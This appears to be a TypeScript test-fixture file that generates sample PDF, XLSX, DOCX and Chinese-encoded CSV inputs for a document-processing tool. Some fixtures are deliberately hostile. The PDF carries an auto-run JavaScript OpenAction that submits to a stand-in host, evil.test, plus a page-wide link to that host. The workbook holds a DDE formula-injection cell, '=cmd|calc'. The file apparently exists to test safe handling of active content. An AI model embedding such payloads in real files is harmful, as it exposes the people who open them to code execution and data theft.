import { readFileSync } from 'node:fs';
import { writeXlsx } from 'hucre/xlsx';

/** A PDF with Chinese text without an embedded font, a script that would run on opening, and a link. */
export function pdf(pages: readonly string[]): Buffer {
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\("https://evil.test/"\\)) >> >>',
    `<< /Type /Pages /Count ${pages.length} /Kids [${pages.map((_, at) => `${6 + 2 * at} 0 R`).join(' ')}] >>`,
    '<< /Type /Font /Subtype /Type0 /BaseFont /STSong-Light /Encoding /UniGB-UCS2-H /DescendantFonts [4 0 R] >>',
    '<< /Type /Font /Subtype /CIDFontType0 /BaseFont /STSong-Light /CIDSystemInfo << /Registry (Adobe) /Ordering (GB1) /Supplement 4 >> /FontDescriptor << /Type /FontDescriptor /FontName /STSong-Light /Flags 6 /FontBBox [-25 -254 1000 880] /ItalicAngle 0 /Ascent 880 /Descent -120 /CapHeight 880 /StemV 93 >> >>',
    '<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /Border [0 0 0] /A << /S /URI /URI (https://evil.test/) >> >>',
    ...pages.flatMap((text, at) => {
      const hex = Buffer.from(text, 'utf16le').swap16().toString('hex');
      const drawing = `BT /F1 24 Tf 60 760 Td <${hex}> Tj ET 0.04 0.34 0.82 rg 60 700 200 20 re f`;
      return [
        `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [5 0 R] /Resources << /Font << /F1 3 0 R >> >> /Contents ${7 + 2 * at} 0 R >>`,
        `<< /Length ${drawing.length} >>\nstream\n${drawing}\nendstream`,
      ];
    }),
  ];
  let text = '%PDF-1.5\n';
  const offsets = objects.map((object, at) => {
    const offset = text.length;
    text += `${at + 1} 0 obj\n${object}\nendobj\n`;
    return String(offset).padStart(10, '0');
  });
  const table = offsets.map((offset) => `${offset} 00000 n \n`).join('');
  const size = objects.length + 1;
  text += `xref\n0 ${size}\n0000000000 65535 f \n${table}trailer\n<< /Size ${size} /Root 1 0 R >>\nstartxref\n${text.length}\n%%EOF\n`;
  return Buffer.from(text, 'latin1');
}

/** A workbook with two sheets, the first with more rows than are shown. */
export async function workbook(): Promise<Buffer> {
  const parameters = Array.from({ length: 300 }, (_, at) => [`P${at}`, at * 1.5, at % 2 === 0]);
  const bytes = await writeXlsx({
    sheets: [
      { name: 'Parameters', rows: [['Parameter', 'Value', 'Changed'], ...parameters] },
      {
        name: '电机',
        rows: [
          ['型号', '=cmd|calc'],
          ['MS1H4', 'x'],
        ],
      },
    ],
  });
  return Buffer.from(bytes);
}

/** A text document with a heading, a list, a table, an embedded picture and a linked one. */
export const manual = (): Buffer => readFileSync(new URL('files/manual.docx', import.meta.url));

/** A CSV file with the header `型号,数量` in GB 18030, as a Chinese Excel writes it. */
export const gbTable = (): Buffer =>
  Buffer.concat([
    Buffer.from([0xd0, 0xcd, 0xba, 0xc5, 0x2c, 0xca, 0xfd, 0xc1, 0xbf, 0x0d, 0x0a]),
    Buffer.from('"MD520, 11 kW",12\r\n'),
    ...Array.from({ length: 6 }, () => Buffer.from([0xb1, 0xe4, 0xc6, 0xb5, 0xc6, 0xf7, 0x2c, 0x33, 0x0d, 0x0a])),
  ]);
